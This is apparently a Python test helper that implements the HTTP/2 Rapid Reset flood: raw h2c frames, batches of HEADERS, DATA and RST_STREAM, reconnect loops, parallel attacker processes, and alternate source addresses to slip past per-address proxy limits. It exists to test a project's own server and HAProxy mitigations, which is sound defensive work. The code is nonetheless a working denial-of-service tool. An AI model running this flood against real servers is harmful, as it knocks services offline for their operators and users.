"""A raw HTTP/2 client for the rapid-reset tests (issue 12): h2c with prior
knowledge over a plain socket, standard library only, so that it can do what
no well-behaved client library does.

RapidReset opens a connection and sends batches of streams, each HEADERS
(POST /api/orders) + DATA (a valid create body, END_STREAM) + RST_STREAM
(CANCEL), as fast as the connection's flow-control window lets it, while a
reader thread acknowledges SETTINGS and PING, returns every DATA byte it is
sent as WINDOW_UPDATE, and records what the server sends: GOAWAY (its error
code, last stream id and debug text), RST_STREAM, response HEADERS, and the
end of the connection. With reconnect=True it opens a new connection each
time the server closes one, until its time is up. run_apart runs attackers
in processes of their own at nice 10, so that neither their threads (the
GIL) nor their CPU time holds up the test's healthy client or the server.

Used by rapid_reset_test.py (against orderd) and haproxy_test.py (against
HAProxy in front of orderd)."""
import multiprocessing
import os
import socket
import struct
import threading
import time
import types

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}
INITIAL_WINDOW = 65535  # RFC 9113 6.9.2: the connection's window before any WINDOW_UPDATE


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def _int(value, prefix_bits, first):
    """An HPACK integer (RFC 7541 5.1) with `first`'s high bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def _literal(name, value):
    """A literal header field without indexing (RFC 7541 6.2.2): `name` is a
    static table index or the name itself; no Huffman coding."""
    value = value.encode() if isinstance(value, str) else value
    head = _int(name, 4, 0x00) if isinstance(name, int) else b"\x00" + _int(len(name), 7, 0) + name.encode()
    return head + _int(len(value), 7, 0) + value


def get_block(authority, path):
    """The header block of GET `path` (static table: 2 :method GET, 6 :scheme http)."""
    return b"\x82\x86" + _literal(4, path) + _literal(1, authority)


def create_block(authority, user, body_len):
    """The header block of POST /api/orders (static table: 3 :method POST, 6
    :scheme http, 4 :path, 1 :authority, 31 content-type, 28 content-length)."""
    return (b"\x83\x86" + _literal(4, "/api/orders") + _literal(1, authority)
            + _literal(31, "application/json") + _literal(28, str(body_len)) + _literal("x-user-id", user))


def reset_burst(first_sid, n, block, body):
    """n streams from first_sid on (odd ids), each HEADERS + DATA (END_STREAM) +
    RST_STREAM (CANCEL), as the bytes to send."""
    out = []
    for sid in range(first_sid, first_sid + 2 * n, 2):
        out.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, body)
                   + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
    return b"".join(out)


class Connection:
    """One h2c connection: a socket, the reader thread and what it saw.
    stream_window: SETTINGS_INITIAL_WINDOW_SIZE sent in the preface (None:
    the default, 65535); 0 keeps every answer's DATA on the server's side
    until a WINDOW_UPDATE for its stream (window_update)."""

    def __init__(self, host, port, source=None, stream_window=None):
        self.sock = socket.create_connection((host, port), timeout=5,
                                             source_address=None if source is None else (source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.window = INITIAL_WINDOW
        self.cond = threading.Condition()
        self.closed_at = None     # monotonic time the connection ended (either side)
        self.ended_by = None      # how the server ended it: "eof", or the error (a TCP reset may drop a GOAWAY)
        self.closing = False      # close() was called: an end after it is ours
        self.goaways = []         # (monotonic time, last stream id, error code, debug text)
        self.server_resets = 0    # RST_STREAM frames from the server
        self.responses = 0        # response HEADERS frames
        self.answered = []        # the stream ids of those HEADERS, in order
        self.sent = 0             # streams RapidReset sent on it
        self.wlock = threading.Lock()
        settings = b"" if stream_window is None else struct.pack(">HI", 4, stream_window)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.wlock:
            self.sock.sendall(data)

    def _read(self):
        buf, how = b"", "eof"
        try:
            while True:
                chunk = self.sock.recv(262144)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                    n = int.from_bytes(buf[:3], "big")
                    self._on_frame(buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + n])
                    buf = buf[9 + n:]
        except OSError as e:
            how = type(e).__name__
        with self.cond:
            if not self.closing:
                self.ended_by = how
            self.closed_at = time.monotonic()
            self.cond.notify_all()

    def _on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE and sid == 0:
            with self.cond:
                self.window += int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                self.cond.notify_all()
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            with self.cond:
                self.goaways.append((time.monotonic(), last & 0x7FFFFFFF, code, payload[8:].decode("latin-1")))
                self.cond.notify_all()
        elif ftype == RST_STREAM:
            self.server_resets += 1
        elif ftype == HEADERS:
            with self.cond:
                self.responses += 1
                self.answered.append(sid)
                self.cond.notify_all()
        elif ftype == DATA and payload:
            # give the window back at once: the server is never held up by this client
            inc = struct.pack(">I", len(payload))
            self.send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))

    def wait_answer(self, sid, timeout):
        """True once the server sent response HEADERS on stream `sid` (False after timeout)."""
        deadline = time.monotonic() + timeout
        with self.cond:
            while sid not in self.answered:
                if self.closed_at is not None or time.monotonic() >= deadline:
                    return False
                self.cond.wait(0.05)
            return True

    def wait_closed(self, timeout):
        """The time the server ended the connection (None if still open after timeout)."""
        deadline = time.monotonic() + timeout
        with self.cond:
            while self.closed_at is None and time.monotonic() < deadline:
                self.cond.wait(0.05)
            return self.closed_at

    def window_update(self, sid, n):
        self.send(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", n)))

    def take_window(self, n, until):
        """Waits until the connection's window holds n bytes, and takes them;
        False when the connection ended, a GOAWAY came or `until` passed."""
        with self.cond:
            while self.window < n:
                if self.closed_at is not None or self.goaways or time.monotonic() >= until:
                    return False
                self.cond.wait(0.05)
            self.window -= n
            return True

    def close(self):
        with self.cond:
            self.closing = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)  # wakes the reader at once
        except OSError:
            pass
        self.sock.close()


class RapidReset(threading.Thread):
    """Sends HEADERS + DATA + RST_STREAM for `batch` streams at a time on one
    h2c connection until `seconds` pass, the server sends GOAWAY or closes.
    With reconnect, starts over on a new connection until the time is up; a
    connection refused, or closed before it took a stream, counts in
    self.refused. source: the local address to connect from (127.0.0.2: seen
    as another client by a proxy that counts by address). Keeps every
    Connection in self.conns and the streams sent in self.streams."""

    def __init__(self, host, port, body, seconds, user="mallory", batch=100, reconnect=False, source=None):
        super().__init__(daemon=True)
        self.host, self.port, self.body, self.seconds = host, port, body, seconds
        self.user, self.batch, self.reconnect, self.source = user, batch, reconnect, source
        self.conns = []
        self.streams = 0
        self.refused = 0
        self.error = None
        self.started = self.ended = None

    def run(self):
        self.started = time.monotonic()
        until = self.started + self.seconds
        block = create_block(f"{self.host}:{self.port}", self.user, len(self.body))
        try:
            while time.monotonic() < until:
                try:
                    conn = Connection(self.host, self.port, self.source)
                except OSError:
                    if not self.reconnect:
                        raise
                    self.refused += 1
                    time.sleep(0.01)
                    continue
                self.conns.append(conn)
                if self._flood(conn, block, until) == 0 and self.reconnect:
                    self.refused += 1
                    time.sleep(0.01)
                if not self.reconnect:
                    break
                # a new connection at once; the old one is left for the server to close
        except OSError as e:
            self.error = f"{type(e).__name__}: {e}"
        finally:
            self.ended = time.monotonic()

    def _flood(self, conn, block, until):
        """Floods `conn`; returns the number of streams sent on it."""
        sid, sent = 1, 0
        while time.monotonic() < until and sid < 0x7FFFFFFF - 2 * self.batch:
            if not conn.take_window(self.batch * len(self.body), until):
                break
            burst = reset_burst(sid, self.batch, block, self.body)
            sid += 2 * self.batch
            try:
                conn.send(burst)
            except OSError:
                break  # the server closed it: what the reader saw says how
            sent += self.batch
            conn.sent += self.batch
            self.streams += self.batch
        return sent

    def close(self):
        for c in self.conns:
            c.close()


CONN_FIELDS = ("goaways", "closed_at", "ended_by", "sent", "responses", "server_resets", "answered")
ATTACKER_FIELDS = ("streams", "refused", "error", "started", "ended")


def _report(attacker, grace):
    """What the parent needs of an attacker that has run: its fields and its
    connections', once each had up to `grace` seconds to be closed."""
    deadline = time.monotonic() + grace
    # a reconnecting attacker's last connection was cut by its time, not by the server
    for c in attacker.conns[:-1] if attacker.reconnect else attacker.conns:
        c.wait_closed(max(0.0, deadline - time.monotonic()))
    report = {f: getattr(attacker, f) for f in ATTACKER_FIELDS}
    report["conns"] = [{f: getattr(c, f) for f in CONN_FIELDS} for c in attacker.conns]
    return report


def _child(kwargs, pipe, grace):
    # a real attacker has CPUs of its own: at nice 10 this one takes what the
    # server and the healthy client leave of this machine's cores, so the
    # figures measure the server, not the test's own Python
    os.nice(10)
    attacker = RapidReset(**kwargs)
    try:
        attacker.run()
        pipe.send(_report(attacker, grace))
    except Exception as e:  # noqa: BLE001 - the parent reports it
        pipe.send({"error": f"{type(e).__name__}: {e}"})
    finally:
        attacker.close()
        pipe.close()


class _Seen(types.SimpleNamespace):
    """A connection as its attacker's process saw it (Connection's fields)."""

    def wait_closed(self, timeout):
        return self.closed_at


def run_apart(specs, grace=3.0):
    """Runs one RapidReset per dict of its arguments in a process of its own
    and waits for them all; returns, in order, objects with the attackers'
    fields and .conns (each connection's fields, after up to `grace` seconds
    for the server to close it); their `started` and `ended` are on the
    parent's time.monotonic() too (CLOCK_MONOTONIC). The processes close
    their connections as they end."""
    ctx = multiprocessing.get_context("spawn")  # no fork of the test's threads and their locks
    pipes, procs = [], []
    for kwargs in specs:
        parent, child = ctx.Pipe(duplex=False)
        proc = ctx.Process(target=_child, args=(kwargs, child, grace), daemon=True)
        proc.start()
        child.close()
        pipes.append(parent)
        procs.append(proc)
    out = []
    for kwargs, pipe, proc in zip(specs, pipes, procs):
        try:
            report = pipe.recv() if pipe.poll(kwargs["seconds"] + grace + 60) else {"error": "no report in time"}
        except EOFError:
            report = {"error": f"the attacker's process ended without a report (exit {proc.exitcode})"}
        proc.join(10)
        if proc.is_alive():
            proc.kill()
        seen = types.SimpleNamespace(**{f: report.get(f) for f in ATTACKER_FIELDS})
        seen.conns = [_Seen(**c) for c in report.get("conns", [])]
        out.append(seen)
    return out


def attack_span(attackers, after=0.0):
    """From the first attacker's start to the last one's end (+ `after`), for the healthy client's figures."""
    if not all(a.started is not None and a.ended is not None for a in attackers):
        raise AssertionError(f"an attacker did not run: {[a.error for a in attackers]}")
    return min(a.started for a in attackers), max(a.ended for a in attackers) + after
